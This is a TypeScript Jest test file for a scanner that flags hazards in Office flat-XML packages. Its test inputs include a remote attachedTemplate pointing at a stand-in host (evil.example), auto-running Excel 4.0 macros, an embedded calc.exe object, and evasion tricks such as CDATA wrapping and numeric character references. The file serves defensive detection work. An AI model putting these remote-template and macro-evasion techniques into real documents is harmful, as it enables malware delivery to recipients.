/** Office files as one XML: what is in them is seen as in the zip of the same parts. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { readAttachments } from '../../../src/traits/attachments.ts';
import { part } from '../parts.ts';

const oletools = (name: string): Buffer =>
  readFileSync(join(import.meta.dirname, '..', '..', 'fixtures', 'oletools', name));

async function read(name: string, content: string) {
  const { attachments, links } = await readAttachments({ parts: [part(name, content)] });
  const hazards = attachments[0]?.hazards.map(
    ({ kind, quote, inside }) => `${kind}: ${quote}${inside === undefined ? '' : ` in ${inside}`}`,
  );
  return { hazards, links: links.map(({ url }) => url) };
}

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const flat = (...parts: readonly string[]): string =>
  `<?xml version="1.0" standalone="yes"?>\r\n<?mso-application progid="Word.Document"?>\r\n<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${parts.join('')}</pkg:package>`;
const xmlPart = (name: string, xml: string): string =>
  `<pkg:part pkg:name="${name}"><pkg:xmlData>${xml}</pkg:xmlData></pkg:part>`;
const relation = (type: string, target: string): string =>
  xmlPart(
    '/word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="r1" Type="${RELATIONS}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
const binary = (
  name: string,
  content: Buffer,
  written = content.toString('base64').replace(/.{76}/g, '$&\n'),
): string =>
  flat(`<pkg:part pkg:name="${name}" pkg:compression="store"><pkg:binaryData>${written}</pkg:binaryData></pkg:part>`);
const XLS = oletools('excel4_sample_macro.xls');
const MACROS = ['macro: Excel 4.0 macro sheet Macro1', 'macro-auto-run: Auto_Open'];

describe('flat packages', () => {
  test.each([
    [
      'a template from elsewhere',
      flat(relation('attachedTemplate', 'https://evil.example/t.dotm')),
      ['remote-template: attachedTemplate https://evil.example/t.dotm'],
    ],
    ['a template of the writer', flat(relation('attachedTemplate', 'file:///C:\\T\\a.dotx')), []],
    ['macros', binary('/word/vbaProject.bin', XLS), MACROS],
    [
      'macros with a letter written as a number',
      binary('/word/x.bin', XLS, XLS.toString('base64').replace('0M8', '&#48;M8')),
      MACROS,
    ],
    ['macros as CDATA', binary('/word/x.bin', XLS, `<![CDATA[${XLS.toString('base64')}]]>`), MACROS],
    [
      'a program in an object',
      binary('/word/embeddings/a.bin', oletools('sample_with_calc_embedded.doc')),
      ['embedded-program: calc.exe'],
    ],
    [
      'a workbook with macros',
      binary('/word/embeddings/a.xlsm', oletools('excel4_sample_macro.xlsm')),
      [
        'macro: Excel 4.0 macro sheet xl/macrosheets/sheet1.xml in word/embeddings/a.xlsm',
        'macro-auto-run: Auto_Open in word/embeddings/a.xlsm',
      ],
    ],
    ['a table', binary('/word/embeddings/a.xlsx', oletools('embedded-simple-2007.xlsx')), []],
    ['a picture', binary('/word/media/a.png', Buffer.from('89504e470d0a1a0a', 'hex')), []],
  ])('%s', async (_name, content, hazards) => {
    expect((await read('a.xml', content)).hazards).toEqual(hazards);
    expect((await read('a.doc', content)).hazards).toEqual(hazards);
  });
  test('a link', async () => {
    expect(await read('a.xml', flat(relation('hyperlink', 'https://a.example/x')))).toEqual({
      hazards: [],
      links: ['https://a.example/x'],
    });
  });
});

test.each([
  ['without a declaration', (xml: string) => xml.replace(/^<\?xml[^>]*>/, '')],
  [
    'behind a comment, with what would be a link of a page',
    (xml: string) =>
      `<!-- x --><?mso-application progid="Word.Document"?><a:b/>${xml.replace(/^(?:<\?[^>]*>\s*){2}/, '')}`,
  ],
])('a flat package %s', async (_name, change) => {
  const content = change(flat(relation('attachedTemplate', 'https://evil.example/t.dotm')));
  expect((await read('a.xml', content)).hazards).toEqual([
    'remote-template: attachedTemplate https://evil.example/t.dotm',
  ]);
});

test('a template of Word 2003', async () => {
  const xml =
    '<?xml version="1.0"?><w:wordDocument><w:docPr><w:attachedTemplate w:val="http://evil.example/t.dot"/></w:docPr></w:wordDocument>';
  expect((await read('a.xml', xml)).hazards).toEqual(['remote-template: attachedTemplate http://evil.example/t.dot']);
  expect((await read('a.xml', xml.replace('http://evil.example/', 'C:\\T\\'))).hazards).toEqual([]);
});
